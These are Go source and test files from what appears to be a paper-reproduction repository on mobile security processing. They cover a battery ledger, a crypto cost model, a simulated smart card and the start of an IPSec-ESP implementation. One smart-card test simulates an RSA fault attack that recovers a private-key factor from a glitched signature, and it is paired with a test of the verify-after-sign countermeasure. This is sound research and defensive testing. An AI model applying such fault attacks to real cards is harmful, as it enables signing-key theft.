		return ErrBatteryExhausted
	}
	b.drainedJ += total
	for _, d := range drains {
		b.ledger[d.Category] += d.Joules
	}
	if journal.On(journal.LevelInfo) {
		for _, pct := range [...]int{25, 50, 75, 100} {
			if pct > b.milestone && b.drainedJ >= b.capacityJ*float64(pct)/100 {
				b.milestone = pct
				journal.Emit(int64(pct), journal.LevelInfo, "energy", "battery_milestone",
					journal.I("pct", int64(pct)),
					journal.F("drained_j", b.drainedJ),
					journal.F("remaining_j", b.capacityJ-b.drainedJ))
			}
		}
	}
	if obs.Enabled() {
		mDrains.Add(int64(len(drains)))
		mDrainedUJ.Add(int64(total * 1e6))
		for _, d := range drains {
			drainCounter(d.Category).Add(int64(d.Joules * 1e6))
		}
	}
	if b.profCats != nil && b.profSpan.Active() {
		for _, d := range drains {
			sp, ok := b.profCats[d.Category]
			if !ok {
				sp = b.profSpan.Enter(d.Category)
				b.profCats[d.Category] = sp
			}
			sp.AddEnergyUJ(int64(d.Joules * 1e6))
		}
	}
	return nil
}

// AttachProfile routes this battery's drains into the energy/cycle
// profiler: every ledger category becomes a child frame of sp, weighted
// by drained microjoules. Callers that want finer attribution than the
// ledger's categories should instead profile at their own drain sites
// and leave the battery unattached.
func (b *Battery) AttachProfile(sp prof.Span) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.profSpan = sp
	b.profCats = make(map[string]prof.Span)
}

// Drained returns the joules drained under a category.
func (b *Battery) Drained(category string) float64 {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.ledger[category]
}

// Categories returns the ledger categories in sorted order.
func (b *Battery) Categories() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	var cats []string
	for c := range b.ledger {
		cats = append(cats, c)
	}
	sort.Strings(cats)
	return cats
}

// Recharge restores the battery to full and clears the ledger.
func (b *Battery) Recharge() {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.drainedJ = 0
	b.milestone = 0
	b.ledger = make(map[string]float64)
}

// TransactionsPossible returns how many transactions of perTxJoules each a
// full battery supports — the y-axis of Figure 4.
func (b *Battery) TransactionsPossible(perTxJoules float64) int {
	if perTxJoules <= 0 {
		return 0
	}
	return int(b.capacityJ / perTxJoules)
}
