package energy

import (
	"errors"
	"math"
	"testing"
)

// TestDrainBatchMatchesSequential: a batch must land exactly where the
// equivalent sequence of Drain calls lands — total, per-category
// ledger, remaining charge.
func TestDrainBatchMatchesSequential(t *testing.T) {
	drains := []CategoryJoules{
		{Category: "radio_tx", Joules: 3.5},
		{Category: "crypto_handshake", Joules: 1.25},
		{Category: "radio_tx", Joules: 0.5}, // repeated category folds into the ledger
	}
	batched, _ := NewBattery(100)
	if err := batched.DrainBatch(drains); err != nil {
		t.Fatal(err)
	}
	seq, _ := NewBattery(100)
	for _, d := range drains {
		if err := seq.Drain(d.Category, d.Joules); err != nil {
			t.Fatal(err)
		}
	}
	if batched.RemainingJ() != seq.RemainingJ() {
		t.Errorf("remaining: batch %v, sequential %v", batched.RemainingJ(), seq.RemainingJ())
	}
	for _, cat := range []string{"radio_tx", "crypto_handshake"} {
		if b, s := batched.Drained(cat), seq.Drained(cat); b != s {
			t.Errorf("ledger %s: batch %v, sequential %v", cat, b, s)
		}
	}
	if got := batched.Drained("radio_tx"); math.Abs(got-4.0) > 1e-12 {
		t.Errorf("radio_tx drained %v, want 4.0", got)
	}
}

// TestDrainBatchAllOrNothing: a batch that would overdraw leaves the
// battery untouched — no partial ledger writes.
func TestDrainBatchAllOrNothing(t *testing.T) {
	b, _ := NewBattery(10)
	if err := b.Drain("base", 8); err != nil {
		t.Fatal(err)
	}
	err := b.DrainBatch([]CategoryJoules{
		{Category: "a", Joules: 1},
		{Category: "b", Joules: 5}, // pushes the total past capacity
	})
	if !errors.Is(err, ErrBatteryExhausted) {
		t.Fatalf("overdraw returned %v, want ErrBatteryExhausted", err)
	}
	if b.Drained("a") != 0 || b.Drained("b") != 0 {
		t.Errorf("failed batch wrote to the ledger: a=%v b=%v", b.Drained("a"), b.Drained("b"))
	}
	if got := b.RemainingJ(); got != 2 {
		t.Errorf("remaining %v after refused batch, want 2", got)
	}
	// The exact remaining charge must still be drainable.
	if err := b.DrainBatch([]CategoryJoules{{Category: "a", Joules: 2}}); err != nil {
		t.Fatalf("draining exactly the remaining charge: %v", err)
	}
}

// TestDrainBatchRejectsNegative: negative entries are refused before any
// state changes.
func TestDrainBatchRejectsNegative(t *testing.T) {
	b, _ := NewBattery(10)
	err := b.DrainBatch([]CategoryJoules{
		{Category: "a", Joules: 1},
		{Category: "b", Joules: -0.5},
	})
	if err == nil {
		t.Fatal("negative drain accepted")
	}
	if b.Drained("a") != 0 {
		t.Errorf("rejected batch drained %v from category a", b.Drained("a"))
	}
}

// TestDrainBatchEmpty: an empty batch is a no-op, not an error.
func TestDrainBatchEmpty(t *testing.T) {
	b, _ := NewBattery(10)
	if err := b.DrainBatch(nil); err != nil {
		t.Fatal(err)
	}
	if b.RemainingJ() != 10 {
		t.Errorf("empty batch changed the battery: %v", b.RemainingJ())
	}
}
