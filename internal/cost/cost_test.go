package cost

import (
	"math"
	"testing"
)

// TestClaim651MIPS reproduces the paper's Section 3.2 anchor: a protocol
// using 3DES encryption and SHA message authentication at 10 Mbps demands
// ≈651.3 MIPS (T1 in DESIGN.md).
func TestClaim651MIPS(t *testing.T) {
	perByte := BulkInstrPerByte(DES3, SHA1)
	mips := 10e6 / 8 * perByte / 1e6
	if math.Abs(mips-651.3) > 0.1 {
		t.Fatalf("3DES+SHA @ 10 Mbps = %.2f MIPS, paper says 651.3", mips)
	}
}

// TestClaimHandshakeLatency reproduces the Section 3.2 anchor: a 235-MIPS
// processor meets 0.5 s and 1 s RSA connection latencies but not 0.1 s
// (T2 in DESIGN.md).
func TestClaimHandshakeLatency(t *testing.T) {
	const saMIPS = 235.0
	h, err := HandshakeInstr(HandshakeRSA1024)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		latency  float64
		feasible bool
	}{
		{1.0, true},
		{0.5, true},
		{0.1, false},
	} {
		demand := h / c.latency / 1e6
		if (demand <= saMIPS) != c.feasible {
			t.Errorf("latency %.1fs: demand %.1f MIPS vs %0.f MIPS, feasible=%v, paper says %v",
				c.latency, demand, saMIPS, demand <= saMIPS, c.feasible)
		}
	}
}

func TestDemandMIPSComposition(t *testing.T) {
	// Demand must decompose into handshake and bulk terms.
	total, err := DemandMIPS(0.5, 10, HandshakeRSA1024, DES3, SHA1)
	if err != nil {
		t.Fatal(err)
	}
	hsOnly, err := DemandMIPS(0.5, 0, HandshakeRSA1024, DES3, SHA1)
	if err != nil {
		t.Fatal(err)
	}
	bulk := 10e6 / 8 * BulkInstrPerByte(DES3, SHA1) / 1e6
	if math.Abs(total-(hsOnly+bulk)) > 1e-9 {
		t.Fatalf("demand does not decompose: %v != %v + %v", total, hsOnly, bulk)
	}
}

// TestDemandMonotonicity: demand grows as latency shrinks and rate grows —
// the shape of the Figure 3 surface.
func TestDemandMonotonicity(t *testing.T) {
	prev := 0.0
	for _, rate := range []float64{0.1, 1, 2, 10, 30, 60} {
		d, err := DemandMIPS(0.5, rate, HandshakeRSA1024, DES3, SHA1)
		if err != nil {
			t.Fatal(err)
		}
		if d <= prev {
			t.Fatalf("demand not increasing in rate at %v Mbps", rate)
		}
		prev = d
	}
	prev = math.Inf(1)
	for _, lat := range []float64{0.05, 0.1, 0.2, 0.5, 1.0} {
		d, err := DemandMIPS(lat, 1, HandshakeRSA1024, DES3, SHA1)
		if err != nil {
			t.Fatal(err)
		}
		if d >= prev {
			t.Fatalf("demand not decreasing in latency at %vs", lat)
		}
		prev = d
	}
}

func TestAlgorithmOrdering(t *testing.T) {
	// The published relative ordering of software costs.
	if !(InstrPerByte(RC4) < InstrPerByte(AES)) {
		t.Error("RC4 should be cheaper than AES")
	}
	if !(InstrPerByte(AES) < InstrPerByte(DES)) {
		t.Error("AES should be cheaper than DES in software")
	}
	if !(InstrPerByte(DES) < InstrPerByte(DES3)) {
		t.Error("DES should be cheaper than 3DES")
	}
	if !(InstrPerByte(MD5) < InstrPerByte(SHA1)) {
		t.Error("MD5 should be cheaper than SHA1")
	}
	if math.Abs(InstrPerByte(DES3)-3*InstrPerByte(DES)) > 1 {
		t.Error("3DES should cost ≈3x DES")
	}
	if InstrPerByte(None) != 0 {
		t.Error("null algorithm should be free")
	}
}

func TestHandshakeOrdering(t *testing.T) {
	get := func(k HandshakeKind) float64 {
		v, err := HandshakeInstr(k)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	if !(get(HandshakeResume) < get(HandshakeRSA512)) {
		t.Error("resumption should be cheaper than any full handshake")
	}
	if !(get(HandshakeRSA512) < get(HandshakeRSA768)) ||
		!(get(HandshakeRSA768) < get(HandshakeRSA1024)) {
		t.Error("handshake cost should grow with modulus size")
	}
	if !(get(HandshakeRSA1024) < get(HandshakeDH1024)) {
		t.Error("DH (no CRT, two exps) should cost more than RSA")
	}
}

func TestDemandErrors(t *testing.T) {
	if _, err := DemandMIPS(0, 1, HandshakeRSA1024, DES3, SHA1); err == nil {
		t.Error("accepted zero latency")
	}
	if _, err := DemandMIPS(1, -1, HandshakeRSA1024, DES3, SHA1); err == nil {
		t.Error("accepted negative rate")
	}
	if _, err := DemandMIPS(1, 1, HandshakeKind("bogus"), DES3, SHA1); err == nil {
		t.Error("accepted unknown handshake kind")
	}
	if _, err := HandshakeInstr(HandshakeKind("bogus")); err == nil {
		t.Error("HandshakeInstr accepted unknown kind")
	}
}

// TestClaimBatteryConstants checks the Section 3.3 constants and the <½
// transaction-count claim they imply (T3 in DESIGN.md).
func TestClaimBatteryConstants(t *testing.T) {
	plainPerTx := (TxMilliJoulePerKB + RxMilliJoulePerKB) / 1e3
	securePerTx := plainPerTx + RSASecureModeExtraMilliJoulePerKB/1e3
	plain := SensorBatteryJoules / plainPerTx
	secure := SensorBatteryJoules / securePerTx
	ratio := secure / plain
	if ratio >= 0.5 {
		t.Fatalf("secure/plain transactions = %.3f, paper says < 0.5", ratio)
	}
	if ratio < 0.4 {
		t.Fatalf("secure/plain transactions = %.3f, implausibly low vs paper's ≈0.46", ratio)
	}
}
