package cost

import (
	"sync"
	"testing"
)

// The instruction-cost tables are read-only maps consulted from every
// worker of a parallel sweep; concurrent lookups must be safe and must
// keep returning the same calibrated numbers. Run under -race.

func TestCostModelConcurrentReaders(t *testing.T) {
	t.Parallel()
	wantBulk := BulkInstrPerByte(DES3, SHA1)
	wantHS, err := HandshakeInstr(HandshakeRSA1024)
	if err != nil {
		t.Fatal(err)
	}
	wantDemand, err := DemandMIPS(0.5, 10, HandshakeRSA1024, DES3, SHA1)
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				if got := BulkInstrPerByte(DES3, SHA1); got != wantBulk {
					t.Errorf("BulkInstrPerByte = %v, want %v", got, wantBulk)
					return
				}
				if got, err := HandshakeInstr(HandshakeRSA1024); err != nil || got != wantHS {
					t.Errorf("HandshakeInstr = %v, %v", got, err)
					return
				}
				if got, err := DemandMIPS(0.5, 10, HandshakeRSA1024, DES3, SHA1); err != nil || got != wantDemand {
					t.Errorf("DemandMIPS = %v, %v", got, err)
					return
				}
			}
		}()
	}
	wg.Wait()
}
