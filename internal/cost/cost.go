// Package cost is the calibrated security-processing cost model behind the
// paper's quantitative figures.
//
// The paper's Figure 3 ("the wireless security processing gap") plots the
// MIPS a security protocol demands against connection latency and data
// rate. Its anchors, taken from [12] (Ravi et al., ISSS 2002), are:
//
//   - a protocol using 3DES encryption + SHA message authentication needs
//     ≈651.3 MIPS at 10 Mbps, and
//   - a 235-MIPS SA-1100 class processor can sustain RSA connection
//     set-up at 0.5 s or 1 s latency targets but not at 0.1 s.
//
// This package encodes those anchors as instruction-count constants and
// derives the full demand surface:
//
//	demand(L, R) = handshake_instr/L + R/8 · bulk_instr_per_byte
//
// The absolute constants are calibrated to the paper (not to this
// repository's own simulated-cycle meter, which serves the side-channel
// experiments); the relative costs between algorithms follow the same
// published workload characterizations.
package cost

import "fmt"

// Algorithm identifies a cryptographic algorithm in the cost tables.
type Algorithm string

// Algorithms with modeled costs.
const (
	DES3  Algorithm = "3des"
	DES   Algorithm = "des"
	AES   Algorithm = "aes128"
	RC4   Algorithm = "rc4"
	RC2   Algorithm = "rc2"
	SHA1  Algorithm = "sha1"
	MD5   Algorithm = "md5"
	CRC32 Algorithm = "crc32"
	None  Algorithm = "null"
)

// instrPerByte gives the per-byte instruction cost of each algorithm on
// the reference 32-bit embedded core.
//
// Calibration: 3DES+SHA1 must total 521.04 instr/byte so that 10 Mbps
// costs 651.3 MIPS exactly as in Figure 3's source data. The remaining
// entries keep the published relative ordering: DES is one third of 3DES;
// AES in software is ≈4.5x cheaper than 3DES; RC4 and MD5 are the
// lightweight pair; RC2's mixing rounds land between DES and 3DES.
var instrPerByte = map[Algorithm]float64{
	DES3:  450.04,
	DES:   150.0,
	AES:   100.0,
	RC4:   12.0,
	RC2:   180.0,
	SHA1:  71.0,
	MD5:   25.0,
	CRC32: 6.0, // table-driven CRC: one lookup + xor + shift per byte
	None:  0.0,
}

// InstrPerByte returns the per-byte instruction cost of the algorithm.
// Unknown algorithms cost zero (and should be caught by suite validation
// upstream).
func InstrPerByte(a Algorithm) float64 { return instrPerByte[a] }

// KnownAlgorithm reports whether a has a modeled per-byte cost (None is
// known and free). Scenario loaders use it to reject typoed cipher/MAC
// names before a run silently prices them at zero.
func KnownAlgorithm(a Algorithm) bool {
	_, ok := instrPerByte[a]
	return ok
}

// BulkInstrPerByte is the per-byte cost of bulk protection with the given
// cipher and MAC hash: every byte is both encrypted and authenticated.
func BulkInstrPerByte(cipher, mac Algorithm) float64 {
	return instrPerByte[cipher] + instrPerByte[mac]
}

// HandshakeKind identifies a connection set-up workload.
type HandshakeKind string

// Handshake workloads with modeled costs.
const (
	HandshakeRSA1024 HandshakeKind = "rsa1024" // full SSL-style RSA key exchange
	HandshakeRSA768  HandshakeKind = "rsa768"
	HandshakeRSA512  HandshakeKind = "rsa512"
	HandshakeDH1024  HandshakeKind = "dh1024"
	HandshakeResume  HandshakeKind = "resume" // abbreviated handshake, symmetric only
)

// handshakeInstr gives the total instruction cost of one connection
// set-up, dominated by the private-key operation.
//
// Calibration: the RSA-1024 handshake is 47e6 instructions, so a 235-MIPS
// SA-1100 completes it in 0.20 s — achievable under the paper's 0.5 s and
// 1 s latency targets, not under 0.1 s (which would demand 470 MIPS),
// matching Section 3.2. Modular-exponentiation cost scales ≈cubically
// with modulus size; DH does two full exponentiations but no CRT.
var handshakeInstr = map[HandshakeKind]float64{
	HandshakeRSA1024: 47e6,
	HandshakeRSA768:  47e6 * 0.75 * 0.75 * 0.75, // ≈19.8e6
	HandshakeRSA512:  47e6 * 0.125,              // ≈5.9e6
	HandshakeDH1024:  47e6 * 2.6,                // two full-size exponentiations
	HandshakeResume:  0.6e6,                     // PRF + MAC only
}

// HandshakeInstr returns the instruction cost of one connection set-up.
func HandshakeInstr(k HandshakeKind) (float64, error) {
	v, ok := handshakeInstr[k]
	if !ok {
		return 0, fmt.Errorf("cost: unknown handshake kind %q", k)
	}
	return v, nil
}

// HandshakeKernel names the crypto kernel that dominates a handshake
// kind, as an energy/cycle profile frame name: the windowed modular
// exponentiation for the public-key kinds, the PRF for an abbreviated
// resume.
func HandshakeKernel(k HandshakeKind) string {
	if k == HandshakeResume {
		return "prf.sha1"
	}
	return "mp.ModExpWindow"
}

// DemandMIPS returns the sustained MIPS a security protocol demands when
// connections must complete within latencySec and bulk data flows at
// rateMbps — the z-axis of Figure 3.
func DemandMIPS(latencySec, rateMbps float64, hs HandshakeKind, cipher, mac Algorithm) (float64, error) {
	if latencySec <= 0 {
		return 0, fmt.Errorf("cost: non-positive latency %v", latencySec)
	}
	if rateMbps < 0 {
		return 0, fmt.Errorf("cost: negative data rate %v", rateMbps)
	}
	h, err := HandshakeInstr(hs)
	if err != nil {
		return 0, err
	}
	handshakeMIPS := h / latencySec / 1e6
	bulkMIPS := rateMbps * 1e6 / 8 * BulkInstrPerByte(cipher, mac) / 1e6
	return handshakeMIPS + bulkMIPS, nil
}

// Radio and battery constants of the paper's Section 3.3 case study
// (sensor node with a DragonBall MC68328, data from [36]).
const (
	// TxMilliJoulePerKB is the radio transmit energy at 10 Kbps.
	TxMilliJoulePerKB = 21.5
	// RxMilliJoulePerKB is the radio receive energy at 10 Kbps.
	RxMilliJoulePerKB = 14.3
	// RSASecureModeExtraMilliJoulePerKB is the added energy of RSA-based
	// encryption in the node's secure mode.
	RSASecureModeExtraMilliJoulePerKB = 42.0
	// SensorBatteryJoules is the node's battery capacity (26 KJ).
	SensorBatteryJoules = 26_000.0
)

// MIPSYears would overflow the metaphor; processors live in internal/proc.
