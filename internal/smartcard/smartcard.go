// Package smartcard models the mobile appliance the paper's
// tamper-resistance discussion centers on: "It is not surprising that the
// first target of these attacks are mobile devices such as smart cards"
// (Section 3.4, refs [38-41]).
//
// The card exposes a simplified ISO 7816-4 APDU interface (SELECT, READ
// BINARY, VERIFY, GET CHALLENGE, SIGN) over a filesystem with public and
// PIN-protected files, a PIN try counter that blocks the card, and an
// RSA signing key whose private-key operation carries the same
// countermeasure knobs (CRT, blinding, verify-after-sign) as the rest of
// the repository — so the Section 3.4 attacks run against the card
// through its front door.
package smartcard

import (
	"fmt"

	"repro/internal/crypto/mp"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/rsa"
	"repro/internal/crypto/sha1"
)

// Instruction bytes (ISO 7816-4 subset).
const (
	InsSelect       byte = 0xA4
	InsReadBinary   byte = 0xB0
	InsVerify       byte = 0x20
	InsGetChallenge byte = 0x84
	InsSign         byte = 0x2A
)

// Status words.
const (
	SWOK                   uint16 = 0x9000
	SWFileNotFound         uint16 = 0x6A82
	SWSecurityNotSatisfied uint16 = 0x6982
	SWAuthBlocked          uint16 = 0x6983
	SWWrongData            uint16 = 0x6A80
	SWInsNotSupported      uint16 = 0x6D00
	SWInternalError        uint16 = 0x6F00
)

// SWPinFailBase encodes remaining tries as 0x63C0 | tries.
const SWPinFailBase uint16 = 0x63C0

// Command is an APDU command.
type Command struct {
	INS    byte
	P1, P2 byte
	Data   []byte
}

// Response is an APDU response.
type Response struct {
	Data []byte
	SW   uint16
}

// File is one elementary file on the card.
type File struct {
	ID        uint16
	Data      []byte
	Protected bool // requires a verified PIN to read
}

// Card is a simulated smart card.
type Card struct {
	pin      string
	tries    int
	maxTries int
	blocked  bool
	verified bool

	files    map[uint16]*File
	selected uint16

	key     *rsa.PrivateKey
	rsaOpts *rsa.Options
	rng     *prng.DRBG

	// Meter accrues simulated cycles per command — the card-edge signal
	// a side-channel bench probes.
	Meter mp.CycleMeter
}

// Config assembles a card.
type Config struct {
	PIN      string
	MaxTries int
	Key      *rsa.PrivateKey
	RSAOpts  *rsa.Options // countermeasure configuration
	Seed     []byte
	Files    []File
}

// New creates a card.
func New(cfg Config) (*Card, error) {
	if cfg.PIN == "" {
		return nil, fmt.Errorf("smartcard: PIN required")
	}
	if cfg.Key == nil {
		return nil, fmt.Errorf("smartcard: signing key required")
	}
	if cfg.MaxTries <= 0 {
		cfg.MaxTries = 3
	}
	c := &Card{
		pin:      cfg.PIN,
		maxTries: cfg.MaxTries,
		files:    make(map[uint16]*File),
		key:      cfg.Key,
		rsaOpts:  cfg.RSAOpts,
		rng:      prng.NewDRBG(append([]byte("card:"), cfg.Seed...)),
	}
	for i := range cfg.Files {
		f := cfg.Files[i]
		c.files[f.ID] = &f
	}
	return c, nil
}

// Blocked reports whether the PIN retry counter is exhausted.
func (c *Card) Blocked() bool { return c.blocked }

// TriesRemaining reports the remaining PIN attempts.
func (c *Card) TriesRemaining() int { return c.maxTries - c.tries }

// Process executes one APDU.
func (c *Card) Process(cmd Command) Response {
	opts := c.rsaOpts
	if opts == nil {
		opts = &rsa.Options{}
	}
	// Thread the card meter through the RSA options so key operations
	// charge simulated cycles (a per-command power/timing profile).
	metered := *opts
	metered.Meter = &c.Meter

	switch cmd.INS {
	case InsSelect:
		if len(cmd.Data) != 2 {
			return Response{SW: SWWrongData}
		}
		id := uint16(cmd.Data[0])<<8 | uint16(cmd.Data[1])
		if _, ok := c.files[id]; !ok {
			return Response{SW: SWFileNotFound}
		}
		c.selected = id
		return Response{SW: SWOK}

	case InsReadBinary:
		f, ok := c.files[c.selected]
		if !ok {
			return Response{SW: SWFileNotFound}
		}
		if f.Protected && !c.verified {
			return Response{SW: SWSecurityNotSatisfied}
		}
		return Response{Data: append([]byte{}, f.Data...), SW: SWOK}

	case InsVerify:
		if c.blocked {
			return Response{SW: SWAuthBlocked}
		}
		if string(cmd.Data) == c.pin {
			c.verified = true
			c.tries = 0
			return Response{SW: SWOK}
		}
		c.tries++
		if c.tries >= c.maxTries {
			c.blocked = true
			return Response{SW: SWAuthBlocked}
		}
		return Response{SW: SWPinFailBase | uint16(c.maxTries-c.tries)}

	case InsGetChallenge:
		n := int(cmd.P1)
		if n == 0 {
			n = 8
		}
		return Response{Data: c.rng.Bytes(n), SW: SWOK}

	case InsSign:
		if !c.verified {
			return Response{SW: SWSecurityNotSatisfied}
		}
		if len(cmd.Data) == 0 {
			return Response{SW: SWWrongData}
		}
		digest := sha1.Sum(cmd.Data)
		sig, err := rsa.SignPKCS1(c.key, "sha1", digest[:], &metered)
		if err != nil {
			// Verify-after-sign tripped (or another internal error):
			// fail closed without emitting the faulty signature.
			return Response{SW: SWInternalError}
		}
		return Response{Data: sig, SW: SWOK}

	default:
		return Response{SW: SWInsNotSupported}
	}
}
