package smartcard

import (
	"bytes"
	"testing"

	"repro/internal/attack/fault"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/rsa"
	"repro/internal/crypto/sha1"
)

var cardKey *rsa.PrivateKey

func key(t testing.TB) *rsa.PrivateKey {
	t.Helper()
	if cardKey == nil {
		var err error
		cardKey, err = rsa.GenerateKey(prng.NewDRBG([]byte("card-key")), 512)
		if err != nil {
			t.Fatal(err)
		}
	}
	return cardKey
}

func newCard(t *testing.T, opts *rsa.Options) *Card {
	t.Helper()
	c, err := New(Config{
		PIN: "1234", Key: key(t), RSAOpts: opts, Seed: []byte("t"),
		Files: []File{
			{ID: 0x3F00, Data: []byte("public id data")},
			{ID: 0x0001, Data: []byte("account 4929-..."), Protected: true},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func sel(id uint16) Command {
	return Command{INS: InsSelect, Data: []byte{byte(id >> 8), byte(id)}}
}

func TestSelectAndReadPublic(t *testing.T) {
	c := newCard(t, nil)
	if r := c.Process(sel(0x3F00)); r.SW != SWOK {
		t.Fatalf("select: %04x", r.SW)
	}
	r := c.Process(Command{INS: InsReadBinary})
	if r.SW != SWOK || !bytes.Equal(r.Data, []byte("public id data")) {
		t.Fatalf("read: %04x %q", r.SW, r.Data)
	}
	if r := c.Process(sel(0xDEAD)); r.SW != SWFileNotFound {
		t.Fatalf("select missing: %04x", r.SW)
	}
}

func TestProtectedFileNeedsPIN(t *testing.T) {
	c := newCard(t, nil)
	c.Process(sel(0x0001))
	if r := c.Process(Command{INS: InsReadBinary}); r.SW != SWSecurityNotSatisfied {
		t.Fatalf("unauthenticated read: %04x", r.SW)
	}
	if r := c.Process(Command{INS: InsVerify, Data: []byte("1234")}); r.SW != SWOK {
		t.Fatalf("verify: %04x", r.SW)
	}
	if r := c.Process(Command{INS: InsReadBinary}); r.SW != SWOK {
		t.Fatalf("authenticated read: %04x", r.SW)
	}
}

func TestPINTryCounterBlocks(t *testing.T) {
	c := newCard(t, nil)
	r := c.Process(Command{INS: InsVerify, Data: []byte("0000")})
	if r.SW != SWPinFailBase|2 {
		t.Fatalf("first fail: %04x, want %04x", r.SW, SWPinFailBase|2)
	}
	c.Process(Command{INS: InsVerify, Data: []byte("1111")})
	r = c.Process(Command{INS: InsVerify, Data: []byte("2222")})
	if r.SW != SWAuthBlocked || !c.Blocked() {
		t.Fatalf("third fail should block: %04x", r.SW)
	}
	// Even the correct PIN is refused now — the anti-brute-force
	// property invasive attackers try to reset (Section 3.4).
	if r := c.Process(Command{INS: InsVerify, Data: []byte("1234")}); r.SW != SWAuthBlocked {
		t.Fatalf("blocked card accepted PIN: %04x", r.SW)
	}
}

func TestCorrectPINResetsCounter(t *testing.T) {
	c := newCard(t, nil)
	c.Process(Command{INS: InsVerify, Data: []byte("0000")})
	if r := c.Process(Command{INS: InsVerify, Data: []byte("1234")}); r.SW != SWOK {
		t.Fatalf("verify: %04x", r.SW)
	}
	if c.TriesRemaining() != 3 {
		t.Fatalf("tries remaining = %d, want 3", c.TriesRemaining())
	}
}

func TestSignRequiresPIN(t *testing.T) {
	c := newCard(t, nil)
	if r := c.Process(Command{INS: InsSign, Data: []byte("tx")}); r.SW != SWSecurityNotSatisfied {
		t.Fatalf("unauthenticated sign: %04x", r.SW)
	}
	c.Process(Command{INS: InsVerify, Data: []byte("1234")})
	r := c.Process(Command{INS: InsSign, Data: []byte("pay 100 to bob")})
	if r.SW != SWOK {
		t.Fatalf("sign: %04x", r.SW)
	}
	digest := sha1.Sum([]byte("pay 100 to bob"))
	if err := rsa.VerifyPKCS1(&key(t).PublicKey, "sha1", digest[:], r.Data); err != nil {
		t.Fatalf("signature invalid: %v", err)
	}
	if c.Meter.Cycles() == 0 {
		t.Fatal("signing accrued no simulated cycles")
	}
	if r := c.Process(Command{INS: InsSign}); r.SW != SWWrongData {
		t.Fatalf("empty sign data: %04x", r.SW)
	}
}

// TestGlitchedCardLeaksFactor: a glitched card without countermeasures
// emits a faulty signature that factors its modulus — the full
// Section 3.4 scenario through the APDU interface.
func TestGlitchedCardLeaksFactor(t *testing.T) {
	c := newCard(t, &rsa.Options{Fault: &rsa.Fault{FlipBit: 11}})
	c.Process(Command{INS: InsVerify, Data: []byte("1234")})
	r := c.Process(Command{INS: InsSign, Data: []byte("victim tx")})
	if r.SW != SWOK {
		t.Fatalf("glitched sign: %04x", r.SW)
	}
	digest := sha1.Sum([]byte("victim tx"))
	factor, err := fault.FactorFromFaultySignature(&key(t).PublicKey, "sha1", digest[:], r.Data)
	if err != nil {
		t.Fatalf("factorization failed: %v", err)
	}
	if factor.Cmp(key(t).P) != 0 && factor.Cmp(key(t).Q) != 0 {
		t.Fatal("not a factor")
	}
}

// TestHardenedCardFailsClosed: with verify-after-sign the glitched card
// returns an error status instead of the exploitable signature.
func TestHardenedCardFailsClosed(t *testing.T) {
	c := newCard(t, &rsa.Options{Fault: &rsa.Fault{FlipBit: 11}, VerifyAfterSign: true})
	c.Process(Command{INS: InsVerify, Data: []byte("1234")})
	r := c.Process(Command{INS: InsSign, Data: []byte("victim tx")})
	if r.SW != SWInternalError {
		t.Fatalf("hardened card emitted %04x", r.SW)
	}
	if len(r.Data) != 0 {
		t.Fatal("hardened card leaked data")
	}
}

func TestGetChallenge(t *testing.T) {
	c := newCard(t, nil)
	r := c.Process(Command{INS: InsGetChallenge, P1: 16})
	if r.SW != SWOK || len(r.Data) != 16 {
		t.Fatalf("challenge: %04x len %d", r.SW, len(r.Data))
	}
	r2 := c.Process(Command{INS: InsGetChallenge, P1: 16})
	if bytes.Equal(r.Data, r2.Data) {
		t.Fatal("challenges repeat")
	}
	if r := c.Process(Command{INS: InsGetChallenge}); len(r.Data) != 8 {
		t.Fatal("default challenge length wrong")
	}
}

func TestUnknownInstruction(t *testing.T) {
	c := newCard(t, nil)
	if r := c.Process(Command{INS: 0xEE}); r.SW != SWInsNotSupported {
		t.Fatalf("unknown ins: %04x", r.SW)
	}
	if r := c.Process(Command{INS: InsSelect, Data: []byte{1}}); r.SW != SWWrongData {
		t.Fatalf("short select: %04x", r.SW)
	}
}

func TestNewValidation(t *testing.T) {
	if _, err := New(Config{Key: key(t)}); err == nil {
		t.Error("accepted empty PIN")
	}
	if _, err := New(Config{PIN: "1"}); err == nil {
		t.Error("accepted nil key")
	}
}
