// Package esp implements an IPSec-ESP-style network-layer protection
// scheme from scratch: per-SA sequence numbers, CBC encryption with a
// negotiated block cipher, a truncated-HMAC integrity value and an
// anti-replay window.
//
// It is the "network or IP layer (IPSec)" rung of the paper's protocol
// ladder (Section 2): the layer a VPN-connected wireless PDA must run in
// addition to WEP below it and SSL above it (Section 3.1's tri-layer
// example), and the workload the Safenet-style protocol engines of
// Section 4.2.3 accelerate.
package esp

import (
	"errors"
	"fmt"
	"hash"
	"io"

	"repro/internal/cost"
	"repro/internal/crypto/hmac"
	"repro/internal/crypto/modes"
	"repro/internal/obs"
	"repro/internal/obs/journal"
	"repro/internal/obs/prof"
)

// Static per-packet metric handles; disarmed by default.
var (
	mPacketsSealed = obs.C("esp.packets_sealed")
	mPacketsOpened = obs.C("esp.packets_opened")
	mSealBytes     = obs.C("esp.seal_bytes")
	mOpenBytes     = obs.C("esp.open_bytes")
	mAuthFailures  = obs.C("esp.auth_failures")
	mReplaysSeen   = obs.C("esp.replays_dropped")
)

// ICVLen is the truncated HMAC length (96 bits, as in HMAC-SHA1-96).
const ICVLen = 12

// Errors returned by Open.
var (
	ErrAuth     = errors.New("esp: authentication failed")
	ErrReplay   = errors.New("esp: replayed or stale sequence number")
	ErrTooShort = errors.New("esp: packet too short")
	ErrWrongSPI = errors.New("esp: packet for a different SPI")
)

// windowSize is the anti-replay window width.
const windowSize = 64

// SA is one direction of a security association.
type SA struct {
	SPI    uint32
	block  modes.Block
	newMAC func() hash.Hash
	macKey []byte
	rng    io.Reader

	sendSeq uint32

	// receive-side anti-replay state
	highestSeq uint32
	window     uint64

	// lifetime limits (0 = unlimited); when exceeded the SA refuses
	// further traffic and must be rekeyed, as IPSec SAs do.
	byteLifetime   int
